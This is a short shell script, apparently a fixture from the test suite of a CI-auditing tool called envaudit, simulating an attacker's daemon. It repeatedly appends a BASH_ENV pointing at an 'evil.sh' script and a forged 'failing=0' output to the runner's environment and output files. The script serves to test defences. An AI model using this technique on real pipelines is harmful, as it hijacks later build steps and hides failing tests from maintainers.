#!/bin/sh
# The attacker's daemon (the suite puts it in the loot directory): it
# outlives the step and keeps writing its file commands, so that whatever
# envaudit restores is overwritten again: a BASH_ENV for every later step
# and a forged failing count.
echo $$ >>@LOOT@/daemon.pids
end=$(( $(date +%s) + 40 ))
while [ "$(date +%s)" -lt "$end" ]; do
  for f in @JOB@/temp/_runner_file_commands/set_env_*; do
    grep -q '^BASH_ENV=' "$f" 2>/dev/null || echo "BASH_ENV=@LOOT@/evil.sh" >>"$f"
  done
  for f in @JOB@/temp/_runner_file_commands/set_output_*; do
    grep -q '^failing=0$' "$f" 2>/dev/null || echo "failing=0" >>"$f"
  done
  sleep 0.05
done
